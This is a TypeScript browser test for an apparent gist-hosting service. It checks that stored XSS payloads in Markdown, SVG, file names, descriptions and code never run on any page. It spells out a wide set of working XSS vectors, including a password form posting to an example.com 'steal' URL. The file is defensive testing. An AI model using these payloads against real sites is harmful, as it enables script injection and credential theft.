// Known XSS payloads in file names, descriptions, Markdown, code and SVG files, opened in Debian's Chromium on every
// page that shows them (the gist, its revisions, the lists, an embedding page): nothing executes (the `window.__xss`
// flag stays unset, no dialog opens), the sanitizer left no script, handler, `javascript:` URL, style or frame, and the
// CSP had nothing to refuse (no console error).
import { describe, expect, it } from 'vitest';
import type { TestServer } from '../helpers/server.js';
import { browserAndServer } from './browser-and-server.js';
import { type BrowserSession, hostPage } from './browser.js';
import { expectNothingRan, FLAG } from './xss-check.js';

const MARKDOWN = `# Payloads

<script>${FLAG('md-script')}</script>
<img src=x onerror="${FLAG('md-img')}">
[a link](javascript:${FLAG('md-link')})
<a href="javascript:${FLAG('md-a')}">an anchor</a>
<a href="&#106;avascript:${FLAG('md-entity')}">entity</a>
<a href="JaVaScRiPt:${FLAG('md-case')}">case</a>
<iframe src="javascript:${FLAG('md-iframe')}"></iframe>
<object data="javascript:${FLAG('md-object')}"></object>
<embed src="javascript:${FLAG('md-embed')}">
<svg><script>${FLAG('md-svg-script')}</script></svg>
<svg onload="${FLAG('md-svg-onload')}"></svg>
<details open ontoggle="${FLAG('md-details')}"><summary>s</summary>x</details>
<math><mtext><table><mglyph><style><img src=x onerror="${FLAG('md-mxss')}">
<form action="https://example.com/steal"><input name="password"><button>go</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>
<meta http-equiv="refresh" content="0;url=javascript:${FLAG('md-meta')}">
<base href="https://example.com/">
<style>body { display: none }</style>
<p onclick="${FLAG('md-onclick')}" onmouseover="${FLAG('md-onmouseover')}">hover me</p>
![img](javascript:${FLAG('md-img-src')})

\`\`\`"><img src=x onerror="${FLAG('md-fence-lang')}">
code
\`\`\`
`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${FLAG('svg-onload')}"><script>${FLAG('svg-script')}</script><rect width="10" height="10"/></svg>\n`;

let s: TestServer;
let browser: BrowserSession;
let gist: any;

browserAndServer(async (started) => {
  ({ browser, s } = started);
  const mallory = await s.userWithToken('mallory', ['gist']);
  const files: Record<string, { content: string }> = {
    'payloads.md': { content: MARKDOWN },
    'evil.svg': { content: SVG },
    [`"><img src=x onerror="${FLAG('filename')}">.txt`]: { content: 'x\n' },
    '<svg onload=window.__xss=1>.js': { content: `</code></pre><script>${FLAG('code')}</script>\n` },
  };
  const created = await s.api('POST', '/gists', {
    token: mallory.token,
    body: { description: `"><script>${FLAG('description')}</script><img src=x onerror="${FLAG('description-img')}">`, public: true, files },
  });
  if (created.status !== 201) throw new Error(`gist: ${created.status} ${created.text}`);
  // A second revision, so the revisions page diffs the payloads too.
  const updated = await s.api('PATCH', `/gists/${created.body.id}`, {
    token: mallory.token,
    body: { files: { 'payloads.md': { content: `${MARKDOWN}\n<img src=y onerror="${FLAG('md-v2')}">\n` } } },
  });
  if (updated.status !== 200) throw new Error(`update: ${updated.status} ${updated.text}`);
  gist = updated.body;
});

describe('XSS payloads in a gist', () => {
  it('run nowhere on the gist page', async () => {
    const v = await browser.visit(gist.html_url);
    expect(v.response?.status()).toBe(200);
    await expectNothingRan(v);
    // The payloads are shown as text where text belongs.
    expect(await v.page.locator('.description').textContent()).toContain('<script>');
    expect(await v.page.locator('.file-name').allTextContents()).toContain(`"><img src=x onerror="${FLAG('filename')}">.txt`);
    expect(await v.page.locator('#file-evil-svg img').getAttribute('src')).toMatch(/^data:image\/svg\+xml;base64,/);
    // Clicking every link the Markdown kept goes nowhere harmful (none is javascript:, checked above).
    expect(await v.page.locator('.markdown a').count()).toBeGreaterThan(0);
  });

  it('run nowhere on the revisions page, the past revision, the lists and an embedding page', async () => {
    for (const url of [
      `${gist.html_url}/revisions`,
      `${gist.html_url}/${gist.history[1].version}`,
      `${s.url}/gist/mallory`,
      `${s.url}/gist/discover`,
    ]) {
      const v = await browser.visit(url);
      expect(v.response?.status(), url).toBe(200);
      await expectNothingRan(v);
    }
    const host = await hostPage(`<script src="${s.url}/gist/${gist.id}.js"></script>`);
    try {
      const v = await browser.visit(host.url);
      expect(await v.page.locator('.hublet-embed .file').count()).toBe(4);
      await expectNothingRan(v, 1);
    } finally {
      await host.close();
    }
  });
});
